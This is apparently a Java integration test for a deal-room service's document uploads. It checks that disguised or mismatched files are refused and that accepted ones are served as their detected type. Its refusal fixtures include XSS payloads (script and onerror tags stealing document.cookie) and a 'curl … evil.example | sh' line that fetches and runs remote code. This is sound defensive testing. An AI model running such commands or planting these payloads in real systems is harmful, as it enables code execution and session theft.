package dev.dealroom.document;

import static dev.dealroom.document.SampleFiles.DOCX;
import static dev.dealroom.document.SampleFiles.PPTX;
import static dev.dealroom.document.SampleFiles.XLSX;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Random;
import java.util.stream.Stream;

import javax.sql.DataSource;

import jakarta.inject.Inject;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.dealroom.support.DealRoomFixture;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

/**
 * Documents are what their bytes are: a file whose content is not an allowed type, or whose name or declared type
 * says something else, is refused and nothing is stored; an accepted file is stored and served as the type its
 * content was detected as, whatever was declared.
 */
@QuarkusTest
class DocumentTypeTest {

    private static final String HTML = "<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body>"
            + "</html>\n";
    private static final String CSV = "metric,target,result\nlatency p99 (ms),50,42\nuptime,99.9%,99.95%\n";

    @Inject
    DataSource dataSource;

    static Stream<Arguments> refused() {
        return Stream.of(
                refused("HTML saved as report.pdf", "report.pdf", "application/pdf", text(HTML), "type-not-allowed"),
                refused("HTML disguised as notes.txt", "notes.txt", "text/plain", text(HTML), "type-not-allowed"),
                refused("HTML disguised as a CSV", "pricing.csv", "text/csv",
                        text("<html><body onload=\"fetch('//evil.example')\">a,b</body></html>"), "type-not-allowed"),
                refused("a script fragment disguised as a CSV", "export.csv", "text/csv",
                        text("  <script>alert(document.cookie)</script>\na,b\n"), "type-not-allowed"),
                refused("an image tag disguised as a text file", "readme.txt", "text/plain",
                        text("<img src=x onerror=alert(1)>"), "type-not-allowed"),
                refused("a shell script disguised as a CSV", "data.csv", "text/csv",
                        text("#!/bin/sh\ncurl -s https://evil.example/x | sh\n"), "type-not-allowed"),
                refused("a Windows executable declared as a PDF", "setup.exe", "application/pdf",
                        SampleFiles.windowsExecutable(), "type-not-allowed"),
                refused("a Windows executable named invoice.pdf", "invoice.pdf", "application/pdf",
                        SampleFiles.windowsExecutable(), "type-not-allowed"),
                refused("SVG (it can carry scripts) named chart.png", "chart.png", "image/png",
                        text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
                        "type-not-allowed"),
                refused("bytes of no known type named report.pdf", "report.pdf", "application/pdf", random(4096),
                        "type-not-allowed"),
                refused("a macro-enabled workbook", "model.xlsm", "application/vnd.ms-excel.sheet.macroenabled.12",
                        SampleFiles.xlsm(), "type-not-allowed"),
                refused("a PDF named x.docx", "x.docx", DOCX, SampleFiles.pdf(), "type-mismatch"),
                refused("a PDF declared as a PNG", "scan.pdf", "image/png", SampleFiles.pdf(), "type-mismatch"),
                refused("a PDF declared as HTML", "terms.pdf", "text/html", SampleFiles.pdf(), "type-mismatch"),
                refused("a PNG named photo.jpg", "photo.jpg", "image/jpeg", SampleFiles.image("png"),
                        "type-mismatch"),
                refused("plain text named report.pdf", "report.pdf", "application/pdf", text("Quarterly report\n"),
                        "type-mismatch"),
                refused("a spreadsheet named deck.pdf", "deck.pdf", "application/pdf", SampleFiles.xlsx(),
                        "type-not-allowed"),
                refused("an empty file", "empty.txt", "text/plain", new byte[0], "invalid-size"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void isRefusedAndNothingIsStored(String label, String fileName, String declaredType, byte[] bytes, String code) {
        DealRoomFixture room = new DealRoomFixture();
        long seq = room.seq();
        long largeObjects = largeObjects();

        upload(room, fileName, declaredType, bytes).then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("code", equalTo("validation-failed"))
                .body("errors.field", contains("file"))
                .body("errors.code", contains(code));

        room.owner.api().get("/api/rooms/{r}/groups/proof/documents", room.roomId).then().statusCode(200)
                .body("size()", equalTo(0));
        assertEquals(seq, room.seq(), "no event");
        assertEquals(largeObjects, largeObjects(), "no content stored");
    }

    @Test
    void theNameFieldMayNotContradictTheContentEither() {
        DealRoomFixture room = new DealRoomFixture();
        long seq = room.seq();
        room.groupMember.api().contentType("multipart/form-data")
                .multiPart("file", "figures.csv", text(CSV), "text/csv")
                .multiPart("name", "figures.exe")
                .post("/api/rooms/{r}/groups/proof/documents", room.roomId).then()
                .statusCode(400)
                .body("errors.field", contains("file"))
                .body("errors.code", contains("type-mismatch"));
        room.owner.api().get("/api/rooms/{r}/groups/proof/documents", room.roomId).then().body("size()", equalTo(0));
        assertEquals(seq, room.seq());
    }

    @Test
    void aRefusedNewVersionLeavesTheDocumentAsItWas() {
        DealRoomFixture room = new DealRoomFixture();
        String id = upload(room, "pricing.csv", "text/csv", text(CSV)).then().statusCode(201).extract().path("id");
        long seq = room.seq();
        long largeObjects = largeObjects();

        upload(room, "pricing.csv", "text/csv", text(HTML)).then().statusCode(400)
                .body("errors.code", contains("type-not-allowed"));

        room.owner.api().get("/api/rooms/{r}/groups/proof/documents/{d}", room.roomId, id).then()
                .body("versions.version", contains(1))
                .body("versions[0].contentType", equalTo("text/csv"));
        assertEquals(seq, room.seq());
        assertEquals(largeObjects, largeObjects());
    }

    static Stream<Arguments> accepted() {
        return Stream.of(
                accepted("a PDF", "MSA redline.pdf", "application/pdf", SampleFiles.pdf(), "application/pdf"),
                accepted("a PDF declared under its alias", "MSA.pdf", "application/x-pdf", SampleFiles.pdf(),
                        "application/pdf"),
                accepted("a PNG", "architecture.png", "image/png", SampleFiles.image("png"), "image/png"),
                accepted("a JPEG", "whiteboard.jpeg", "image/jpeg", SampleFiles.image("jpg"), "image/jpeg"),
                accepted("a JPEG with an upper-case .JPG", "IMG_0042.JPG", "image/jpeg", SampleFiles.image("jpg"),
                        "image/jpeg"),
                accepted("a GIF", "spinner.gif", "image/gif", SampleFiles.image("gif"), "image/gif"),
                accepted("a WebP", "logo.webp", "image/webp", SampleFiles.webp(), "image/webp"),
                accepted("a Word document", "SOW.docx", DOCX, SampleFiles.docx(), DOCX),
                accepted("a Word document declared as bytes", "SOW.docx", "application/octet-stream",
                        SampleFiles.docx(), DOCX),
                accepted("a workbook", "business case.xlsx", XLSX, SampleFiles.xlsx(), XLSX),
                accepted("a workbook declared as a zip", "business case.xlsx", "application/zip", SampleFiles.xlsx(),
                        XLSX),
                accepted("a presentation", "kick-off.pptx", PPTX, SampleFiles.pptx(), PPTX),
                accepted("a CSV", "pilot metrics.csv", "text/csv", text(CSV), "text/csv"),
                accepted("a CSV declared as text", "pilot metrics.csv", "text/plain", text(CSV), "text/csv"),
                accepted("a CSV as Windows browsers declare it", "pilot metrics.csv", "application/vnd.ms-excel",
                        text(CSV), "text/csv"),
                accepted("a CSV that mentions markup in a cell", "copy.csv", "text/csv",
                        text("element,text\nbanner,\"Use <b>bold</b> here\"\n"), "text/csv"),
                accepted("a text file", "notes.txt", "text/plain", text("Pilot notes\n- latency OK\n"), "text/plain"),
                accepted("UTF-8 text with a byte order mark", "Zürich.txt", "text/plain",
                        text("\uFEFFRéunion à Zürich : café, thé\n"), "text/plain"),
                accepted("text with no extension", "README", "application/octet-stream", text("Read me first\n"),
                        "text/plain"),
                accepted("a PDF whose name ends in its version", "Proposal v2.1", "application/pdf",
                        SampleFiles.pdf(), "application/pdf"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("accepted")
    void isStoredAndServedAsItsDetectedType(String label, String fileName, String declaredType, byte[] bytes,
            String detectedType) {
        DealRoomFixture room = new DealRoomFixture();

        String id = upload(room, fileName, declaredType, bytes).then()
                .statusCode(201)
                .body("versions[0].contentType", equalTo(detectedType))
                .extract().path("id");

        room.decisionMaker.api().get("/api/rooms/{r}/groups/proof/documents/{d}", room.roomId, id).then()
                .body("versions[0].contentType", equalTo(detectedType));
        Response download = room.decisionMaker.api()
                .get("/api/rooms/{r}/groups/proof/documents/{d}/content", room.roomId, id);
        download.then().statusCode(200)
                .header("Content-Type", equalTo(detectedType))
                .header("X-Content-Type-Options", "nosniff");
        assertArrayEquals(bytes, download.asByteArray());
    }

    @Test
    void aFileNamedOtherwiseTakesItsTypeFromTheFileName() {
        DealRoomFixture room = new DealRoomFixture();
        String id = room.groupMember.api().contentType("multipart/form-data")
                .multiPart("file", "q3.csv", text(CSV), "application/octet-stream")
                .multiPart("name", "Q3 figures")
                .post("/api/rooms/{r}/groups/proof/documents", room.roomId).then()
                .statusCode(201)
                .body("name", equalTo("Q3 figures"))
                .body("versions[0].contentType", equalTo("text/csv"))
                .extract().path("id");
        room.owner.api().get("/api/rooms/{r}/groups/proof/documents/{d}/content", room.roomId, id).then()
                .header("Content-Type", equalTo("text/csv"));
    }

    private static Response upload(DealRoomFixture room, String fileName, String declaredType, byte[] bytes) {
        RequestSpecification request = room.groupMember.api().contentType("multipart/form-data")
                .multiPart("file", fileName, bytes, declaredType);
        return request.post("/api/rooms/{r}/groups/proof/documents", room.roomId);
    }

    private long largeObjects() {
        try (Connection connection = dataSource.getConnection(); Statement statement = connection.createStatement();
                ResultSet result = statement.executeQuery("select count(*) from pg_largeobject_metadata")) {
            result.next();
            return result.getLong(1);
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Arguments refused(String label, String fileName, String declaredType, byte[] bytes, String code) {
        return Arguments.of(label, fileName, declaredType, bytes, code);
    }

    private static Arguments accepted(String label, String fileName, String declaredType, byte[] bytes,
            String detectedType) {
        return Arguments.of(label, fileName, declaredType, bytes, detectedType);
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] random(int size) {
        byte[] bytes = new byte[size];
        new Random(size).nextBytes(bytes);
        return bytes;
    }
}
